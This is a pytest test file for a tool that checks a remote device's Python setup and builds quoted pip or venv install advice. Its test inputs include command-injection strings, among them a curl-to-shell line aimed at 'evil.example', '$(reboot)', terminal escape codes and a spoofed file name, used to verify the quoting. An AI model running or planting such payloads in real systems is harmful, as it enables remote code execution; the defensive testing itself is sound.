"""What a device says of its Python is shown as words, and the advice to copy holds no command."""

import json
import shlex
import sys
from pathlib import Path
from typing import Any

import pytest

from nas_sv2.errors import DeviceError
from nas_sv2.latency.measurements.plan import MeasurePlan
from nas_sv2.latency.targets.try_out import Preflight, preflight

GOOD: dict[str, Any] = {
    "python": [3, 11, 2],
    "executable": "/usr/bin/python3",
    "machine": "aarch64",
    "system": "Linux 6.1",
    "packages": {"numpy": "1.26", "onnxruntime": None},
    "pip": True,
    "managed": False,
    "emulated": False,
}
PATHS = [
    "/usr/bin/python3; curl evil.example|sh #",
    "/usr/bin/python3 -c 'import os' && /x",
    "/opt/my python/bin/python3",
    "$(reboot)",
    "`reboot`",
    "/x\n  nas-sv2: ok\n/y",
    "\x1b[2J\x1b[1;31m/x",
    "/x\u202egp.exe",
    "a'b\"c",
    "\udce9",
    "-m",
]


class Echo:
    """A launcher whose python3 says what it is told to."""

    key = "echo"

    def __init__(self, **changed: Any) -> None:
        self.line = json.dumps({**GOOD, **changed})

    def command(self, code: str) -> tuple[str, ...]:
        assert "EXTERNALLY-MANAGED" in code
        return ("printf", "%s\n", self.line)

    def advice(self, words: str) -> str:
        return ""


def asked(**changed: Any) -> Preflight:
    return preflight("pi", Echo(**changed), MeasurePlan())


def test_the_missing_package_is_installed_by_the_python_of_the_device() -> None:
    found = asked()
    assert found.advice == "/usr/bin/python3 -m pip install onnxruntime"
    assert found.python == "Python 3.11.2, /usr/bin/python3, aarch64, Linux 6.1"


@pytest.mark.parametrize("path", PATHS)
@pytest.mark.parametrize("managed", [True, False])
def test_a_path_is_one_word_of_the_advice(path: str, managed: bool) -> None:
    found = asked(executable=path, managed=managed, machine=path, system=path)
    assert found.advice.isprintable() and found.python.isprintable()
    word, option, module = shlex.split(found.advice.partition(",")[0])[:3]
    assert (option, module) == ("-m", "venv" if managed else "pip")
    assert not path.isprintable() or word == path


def test_only_packages_that_were_asked_for_are_advised() -> None:
    found = asked(packages={"numpy": "1", "onnxruntime": "\x1b[2J", "evil; reboot": None})
    assert found.packages == {"numpy": "1", "onnxruntime": r"\x1b[2J"}
    assert found.advice == ""


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("python", None),
        ("python", [3]),
        ("python", [3, "\x1b[2J", 1]),
        ("python", "3.11"),
        ("python", [10**4, 1, 1]),
        ("executable", None),
        ("executable", ["/x"]),
        ("executable", "x" * 5000),
        ("machine", 7),
        ("system", {}),
        ("packages", ["numpy"]),
        ("packages", {"numpy": 1}),
        ("pip", "yes"),
        ("emulated", None),
    ],
)
def test_an_answer_of_another_form_is_refused_by_its_field(field: str, value: object) -> None:
    with pytest.raises(DeviceError, match=rf"pi: its answer cannot be read: .*\$\.{field}") as it:
        asked(**{field: value})
    assert str(it.value).isprintable() and len(str(it.value)) < 500


def test_what_the_program_prints_is_read() -> None:
    class Here(Echo):
        def command(self, code: str) -> tuple[str, ...]:
            return (sys.executable, "-c", code)

    assert preflight("here", Here(), MeasurePlan()).packages.keys() == {"numpy", "onnxruntime"}


def test_a_package_in_a_wheel_of_another_name_is_there(tmp_path: Path) -> None:
    """onnxruntime comes as onnxruntime-gpu, -directml, -openvino and others.

    A wheel whose list of files cannot be read hides no other.
    """
    files = {
        "onnxruntime/__init__.py": "",
        "onnxruntime_openvino-1.24.dist-info/METADATA": (
            "Metadata-Version: 2.1\nName: onnxruntime-openvino\nVersion: 1.24\n"
        ),
        "onnxruntime_openvino-1.24.dist-info/RECORD": "onnxruntime/__init__.py,,\n",
        "damaged-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: damaged\nVersion: 1.0\n",
        "damaged-1.0.dist-info/RECORD": "\udcff,,\n",
        "onnxruntime_extensions-0.9.dist-info/METADATA": (
            "Metadata-Version: 2.1\nName: onnxruntime-extensions\nVersion: 0.9\n"
        ),
        "onnxruntime_extensions-0.9.dist-info/RECORD": "onnxruntime_extensions/__init__.py,,\n",
    }
    for name, text in files.items():
        (tmp_path / name).parent.mkdir(exist_ok=True)
        (tmp_path / name).write_text(text, errors="surrogateescape")

    class Here(Echo):
        def command(self, code: str) -> tuple[str, ...]:
            return ("env", f"PYTHONPATH={tmp_path}", sys.executable, "-S", "-c", code)

    found = preflight("here", Here(), MeasurePlan())
    assert found.packages == {"numpy": None, "onnxruntime": "1.24 (onnxruntime-openvino)"}
    assert found.advice.endswith(" numpy") or "install numpy," in found.advice
